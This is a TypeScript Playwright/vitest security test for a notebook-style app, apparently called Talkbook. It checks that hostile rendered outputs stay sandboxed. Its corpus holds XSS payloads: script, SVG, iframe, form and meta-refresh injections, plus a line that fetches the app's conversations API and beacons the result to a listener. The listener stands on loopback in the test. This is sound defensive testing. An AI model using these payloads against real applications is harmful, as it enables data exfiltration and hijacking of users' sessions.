import { createServer, type Server } from 'node:http';
import { createSocket, type Socket } from 'node:dgram';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { startTestTalkbook, type TestTalkbook } from '../helpers/talkbook.ts';
import { launchChromium, openPage, screenshot, waitForFrames } from './support/browser.ts';

/**
 * Outputs are attacker-controlled (model-written code, a prompt injection in a data file). A
 * corpus of HTML, SVG, CSS and script payloads rendered in Chromium must never reach the app's
 * window, its cookie or API, nor a beacon listener on loopback.
 */
describe('hostile outputs in a browser', { timeout: 180_000 }, () => {
  let talkbook: TestTalkbook;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let beacon: Server;
  let udp: Socket;
  const hits: string[] = [];
  let base = '';

  beforeAll(async () => {
    beacon = createServer((req, res) => {
      hits.push(`${req.method} ${req.url}`);
      res.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'image/gif' }).end();
    });
    await new Promise<void>((resolve) => beacon.listen(0, '127.0.0.1', resolve));
    base = `http://127.0.0.1:${(beacon.address() as AddressInfo).port}`;
    udp = createSocket('udp4');
    udp.on('message', () => hits.push('udp'));
    await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
    talkbook = await startTestTalkbook();
    browser = await launchChromium();
    ({ context, page } = await openPage(browser, { width: 1200, height: 900 }));
  });

  afterAll(async () => {
    await context?.close();
    await browser?.close();
    await talkbook?.close();
    beacon?.close();
    udp?.close();
  });

  it('renders the corpus without any of it reaching the app or the network', async () => {
    await page.goto(`${talkbook.url}/?token=${encodeURIComponent(talkbook.token)}`);
    const { id } = await talkbook.createConversation({ title: 'Hostile outputs' });
    await page.goto(`${talkbook.url}/c/${id}`);
    const corpus = [
      `<img src="${base}/img">`,
      `<link rel="stylesheet" href="${base}/css"><div style="background:url(${base}/bg)">bg</div>`,
      `<style>@import url("${base}/import"); body { background: url(${base}/body) }</style>`,
      `<script>fetch("${base}/fetch").catch(()=>{}); new Image().src = "${base}/script-img";</script>`,
      `<script>try { parent.document.title = "pwned"; } catch (e) {} try { top.location = "${base}/top"; } catch (e) {}</script>`,
      `<script>try { fetch("/api/conversations").then(r => r.text()).then(t => navigator.sendBeacon("${base}/api?" + t.length)); } catch (e) {}</script>`,
      `<script>try { document.cookie; parent.postMessage({ type: "height", height: 99999 }, "*"); } catch (e) {}</script>`,
      `<iframe src="${base}/iframe"></iframe><object data="${base}/object"></object><embed src="${base}/embed">`,
      `<meta http-equiv="refresh" content="0;url=${base}/refresh">`,
      `<form action="${base}/form" method="post"><input name="x" value="1"></form><script>document.forms[0].submit()</script>`,
      `<a id="a" href="${base}/click" target="_top">x</a><script>document.getElementById("a").click()</script>`,
      `<script>window.open("${base}/popup")</script>`,
      `<video src="${base}/video" autoplay></video><audio src="${base}/audio" autoplay></audio>`,
      `<svg xmlns="http://www.w3.org/2000/svg"><image href="${base}/svg-image"/><script>fetch("${base}/svg-script")</script></svg>`,
    ];
    const code = [
      'from IPython.display import HTML, SVG, Markdown, Javascript, display',
      `corpus = ${JSON.stringify(corpus)}`,
      'for item in corpus:\n    display(HTML(item))',
      `display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\\'${base}/svg-onload\\')"><image href="${base}/svg-output"/></svg>'))`,
      `display(Markdown('![x](${base}/markdown-image) <img src="${base}/markdown-html">'))`,
      `display(Javascript('fetch("${base}/javascript"); parent.document.title = "pwned"'))`,
      'print("corpus shown")',
    ].join('\n');
    const box = page.getByRole('textbox', { name: 'Message' });
    await box.fill(code);
    await box.press('Control+Enter');
    // The output, not the source line that prints it (that shows at once, while the kernel may still be starting).
    await page.locator('.stream-stdout', { hasText: 'corpus shown' }).waitFor({ timeout: 60_000 });
    await waitForFrames(page).catch(() => undefined);
    await page.waitForTimeout(2500);
    await screenshot(page, 'hostile-outputs', true);

    expect(hits).toEqual([]);
    expect(await page.title()).toBe('Hostile outputs · Talkbook');
    expect(page.url()).toBe(`${talkbook.url}/c/${id}`);
    expect(context.pages()).toHaveLength(1);
    // Every untrusted frame is sandboxed without allow-same-origin.
    const sandboxes = await page.$$eval('iframe', (frames) => frames.map((f) => f.getAttribute('sandbox')));
    expect(sandboxes.length).toBeGreaterThan(5);
    for (const sandbox of sandboxes) {
      expect(sandbox).not.toBeNull();
      expect(sandbox).not.toContain('allow-same-origin');
    }
    // No frame grew to the height a payload asked for.
    const heights = await page.$$eval('iframe', (frames) => frames.map((f) => f.getBoundingClientRect().height));
    expect(Math.max(...heights)).toBeLessThan(5000);
  });
});
